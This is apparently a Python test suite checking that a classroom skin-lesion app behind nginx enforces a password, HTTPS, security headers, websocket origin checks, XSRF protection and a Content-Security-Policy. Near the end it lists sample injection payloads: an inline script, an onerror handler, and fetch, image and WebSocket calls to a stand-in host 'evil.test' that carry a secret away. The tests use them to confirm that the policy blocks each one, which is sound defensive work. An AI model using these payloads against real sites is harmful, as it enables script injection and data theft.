"""The app as a class gets it: behind nginx with the shipped configuration, HTTPS and a password."""

from __future__ import annotations

import base64
import http.client
import re
import socket
import ssl
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page

from benchmarks.browser import CHROMIUM_FLAGS
from core.imaging.image import to_jpeg
from core.lesion.phantom import practice_set
from tests.browser import nginx
from tests.browser.conftest import App, chromium, draw_an_outline, until
from tests.browser.test_camera import CAMERAS
from tests.browser.test_performance import TABS
from tests.browser.test_router import PAGES
from tests.waiting import PATIENCE
from ui.dataset import views

SECRET = "chalk and blackboard"
LOGIN = {"Authorization": "Basic " + base64.b64encode(
    f"{nginx.USER}:{nginx.PASSWORD}".encode()).decode()}  # fmt: skip
SOCKET = {
    "Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": base64.b64encode(bytes(16)).decode(),
    "Sec-WebSocket-Protocol": "streamlit",
}  # fmt: skip


class Site(NamedTuple):
    """An app, nginx before it, and the folder into which either writes."""

    app: App
    https: int
    http: int
    folder: Path

    def ask(
        self, path: str, method: str = "GET", body: bytes | None = None, **headers: str
    ) -> http.client.HTTPResponse:
        """An answer by HTTPS, with its body in `read`; headers' `_` stand for `-`."""
        trust = ssl.create_default_context(cafile=str(self.folder / "certificate.pem"))
        connection = http.client.HTTPSConnection(
            "127.0.0.1", self.https, timeout=PATIENCE, context=trust
        )
        connection._create_connection = lambda _, *more: _connect(self.https)  # type: ignore[attr-defined]
        connection.host = nginx.NAME
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        connection.request(method, path, body, {"Host": nginx.NAME} | named)
        return connection.getresponse()


def _connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)


@pytest.fixture(scope="module")
def imported(request: pytest.FixtureRequest) -> Path | None:
    """The data folder that HAM10000 was imported into, if it was."""
    try:
        return request.getfixturevalue("dataset").root.parent
    except pytest.skip.Exception:
        return None


@pytest.fixture(scope="module")
def site(start_app, imported, tmp_path_factory) -> Iterator[Site]:
    if not nginx.NGINX or not nginx.OPENSSL:
        pytest.skip("nginx or openssl is not installed: apt install nginx-light openssl")
    folder = tmp_path_factory.mktemp("nginx")
    app = start_app(
        data=imported,
        LESIONLAB_TEACHER=SECRET,
        STREAMLIT_BROWSER_SERVER_ADDRESS=nginx.NAME,
        STREAMLIT_SERVER_ALLOWED_HOSTS=nginx.NAME,
    )
    with nginx.running(folder, urlsplit(app.url).port) as (https, http_port):
        yield Site(app, https, http_port, folder)


def test_nobody_enters_without_the_password(site: Site) -> None:
    for path in ("/", "/_stcore/health", "/_stcore/stream", "/_stcore/upload_file/x/y"):
        for wrong in ({}, {"Authorization": "Basic " + base64.b64encode(b"class:x").decode()}):
            assert site.ask(path, **wrong).status == 401
    answer = site.ask("/", **LOGIN)
    assert answer.status == 200
    assert b"<html" in answer.read()


def test_plain_http_leads_to_https(site: Site) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", site.http, timeout=PATIENCE)
    connection.request("GET", "/about", headers={"Host": nginx.NAME})
    answer = connection.getresponse()
    assert answer.status == 301
    assert answer.headers["Location"] == f"https://{nginx.NAME}/about"


def test_headers_that_browsers_heed(site: Site) -> None:
    for path, login in (("/", LOGIN), ("/", {}), ("/_stcore/health", LOGIN)):
        headers = site.ask(path, **login).headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["X-Frame-Options"] == "SAMEORIGIN"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert "max-age" in headers["Strict-Transport-Security"]
        assert "frame-ancestors 'self'" in headers["Content-Security-Policy"]
        assert "geolocation=()" in headers["Permissions-Policy"]
        assert headers["Server"] == "nginx", "no version"


def test_websockets_come_from_the_app_s_own_pages_alone(site: Site) -> None:
    own = f"https://{nginx.NAME}"
    for origin, status in ((own, 101), ("https://evil.test", 403), ("null", 403)):
        found = site.ask("/_stcore/stream", Origin=origin, **(SOCKET | LOGIN))
        assert found.status == status, origin


def test_uploads_need_the_page_s_token(site: Site) -> None:
    """XSRF: another page that a visitor has open cannot upload in their name."""
    boundary = "----x"
    body = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=file; filename=a.png\r\n\r\nx\r\n"
        f"--{boundary}--\r\n"
    ).encode()
    kind = {"Content_Type": f"multipart/form-data; boundary={boundary}"}
    answer = site.ask("/_stcore/upload_file/session/file", "PUT", body, **(kind | LOGIN))
    assert answer.status == 403


def test_too_large_uploads_end_at_nginx(site: Site) -> None:
    answer = site.ask(
        "/_stcore/upload_file/session/file", "PUT", None, Content_Length=str(300 * 2**20), **LOGIN
    )
    assert answer.status == 413


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """A browser that takes the class's address for this computer, and finds no other host."""
    flags = [flag for flag in CHROMIUM_FLAGS if not flag.startswith("--host-resolver-rules")]
    rules = f"--host-resolver-rules=MAP {nginx.NAME} 127.0.0.1, MAP * ~NOTFOUND"
    with chromium(*flags, rules) as browser:
        yield browser


REFUSED = re.compile("^(.{,80}).*Content Security Policy.*directive:? (.*)", re.DOTALL)
"""What the console says of it."""


class Student(NamedTuple):
    """A browser that has the class's password.

    Attributes:
        page: empty at first.
        refused: what its console said of the Content-Security-Policy: what was refused, and why.
        hosts: that it asked for anything.
    """

    page: Page
    refused: list[tuple[str, str]]
    hosts: set[str]


@pytest.fixture
def student(browser: Browser, site: Site) -> Iterator[Student]:
    context = browser.new_context(
        base_url=f"https://{nginx.NAME}:{site.https}",
        ignore_https_errors=True,
        http_credentials={"username": nginx.USER, "password": nginx.PASSWORD},
        reduced_motion="reduce",
        viewport={"width": 1440, "height": 1600},
    )
    context.set_default_timeout(1000 * PATIENCE)
    found = Student(context.new_page(), [], set())

    def asked(url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("data", "blob", "about"):
            found.hosts.add(f"{parts.scheme}://{parts.hostname}")

    context.on("request", lambda request: asked(request.url))
    found.page.on("websocket", lambda socket: asked(socket.url))
    context.on("console", lambda said: found.refused.extend(REFUSED.findall(said.text)))
    yield found
    context.close()


OWN = {f"https://{nginx.NAME}", f"wss://{nginx.NAME}"}


def test_an_upload_and_all_that_explains_it_work_under_the_policy(
    student: Student, wait_idle: Callable[..., None]
) -> None:
    page = student.page
    page.goto("/")
    wait_idle(page)
    page.get_by_text("Your photo").click()
    wait_idle(page)
    photo = to_jpeg(practice_set()[0].image.rgb)
    page.locator('input[type="file"]').set_input_files(
        files=[{"name": "mole.jpg", "mimeType": "image/jpeg", "buffer": photo}]
    )
    image = page.get_by_role("img", name="Photo mole.jpg")
    image.wait_for()
    wait_idle(page)
    page.keyboard.press("o")
    page.locator("path.line").wait_for()
    page.keyboard.press("h")
    page.locator("img.heat").wait_for()
    wait_idle(page)
    for shown in (image, page.locator("img.heat")):
        assert shown.evaluate("img => img.complete && img.naturalWidth > 0")
    assert page.locator("li .track").count() == 7
    for name in ("Heatmaps", "Measurements", "Choose a threshold", "Other patients", "How sure?",
                 "Similar cases", "Report"):  # fmt: skip
        page.get_by_role("radio", name=name).click()
        page.wait_for_timeout(300)
        wait_idle(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Report (HTML)").click()
    assert download.value.path().read_bytes().startswith(b"<!doctype html>")
    page.get_by_text("Camera", exact=True).click()
    page.wait_for_function(CAMERAS)
    page.get_by_role("button", name="Take Photo").click()
    page.get_by_role("img", name="Photo Camera photo").wait_for()
    wait_idle(page)
    assert not set(student.refused)
    assert student.hosts == OWN


def test_every_page_and_its_charts_work_under_the_policy(
    student: Student, wait_idle: Callable[..., None], imported: Path | None
) -> None:
    page = student.page
    for path, (_, heading) in PAGES.items():
        page.goto(path)
        wait_idle(page)
        page.get_by_role("heading", name=heading, exact=True, level=1).wait_for()
    page.goto("/performance")
    for tab in TABS:
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(300)
        wait_idle(page)
    page.get_by_role("tab", name="Calibration").click()
    page.locator(".js-plotly-plot .main-svg").first.wait_for()
    draw_an_outline(page, wait_idle)
    if imported:
        page.goto("/dataset")
        wait_idle(page)
        page.locator(".js-plotly-plot .bars .point path").first.wait_for()
        page.get_by_role("tab", name=views.MAP.split(": ")[-1]).click()
        page.locator(".js-plotly-plot .gl-canvas").first.wait_for()
        wait_idle(page)
    assert not set(student.refused)
    assert student.hosts == OWN


RUN = "window.injected = true"
INJECTED = {
    "a script in the page": (
        f"element('script', {{textContent: '{RUN}'}})", "script-src-elem"
    ),
    "another site's script": (
        "element('script', {src: 'https://evil.test/a.js'})", "script-src-elem"
    ),
    "an event's script": (
        f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"{RUN}\">')",
        "script-src-attr",
    ),
    "another site's frame": ("element('iframe', {src: 'https://evil.test/'})", "frame-src"),
    "a plugin": ("element('object', {data: 'https://evil.test/a.swf'})", "object-src"),
    "another site's form": (
        "element('form', {action: 'https://evil.test/', method: 'post'}).submit()", "form-action"
    ),
    "other addresses for all links": (
        "element('base', {href: 'https://evil.test/'})", "base-uri"
    ),
    "a picture that carries something away": (
        "element('img', {src: 'https://evil.test/?secret'})", "img-src"
    ),
    "a request that carries something away": (
        "fetch('https://evil.test/?secret').catch(() => {})", "connect-src"
    ),
    "a connection that carries something away": (
        "new WebSocket('wss://evil.test/')", "connect-src"
    ),
}  # fmt: skip
"""What somebody got into a page, and the part of the policy that refuses it."""
INJECT = """what => {
    window.refused = [];
    document.addEventListener(
        'securitypolicyviolation', e => window.refused.push(e.effectiveDirective));
    const element = (name, given) => {
        const made = Object.assign(document.createElement(name), given);
        document.body.append(made);
        return made;
    };
    try { (%s) } catch (error) { window.thrown = String(error); }
}"""


def test_what_is_injected_into_a_page_is_refused(
    student: Student, wait_idle: Callable[..., None], site: Site
) -> None:
    page = student.page
    page.goto("/about")
    wait_idle(page)
    for name, (script, directive) in INJECTED.items():
        page.evaluate(INJECT % script)
        until(page, lambda expected=directive: expected in page.evaluate("window.refused"))
        assert page.evaluate("window.injected") is None, name
    assert f"https://{nginx.NAME}" in page.url
    assert student.refused
    # Without the policy the same script runs: it is the policy that stops it.
    page.goto(site.app.url.replace("127.0.0.1", nginx.NAME))
    wait_idle(page)
    page.evaluate(INJECT % INJECTED["a script in the page"][0])
    assert page.evaluate("window.injected") is True
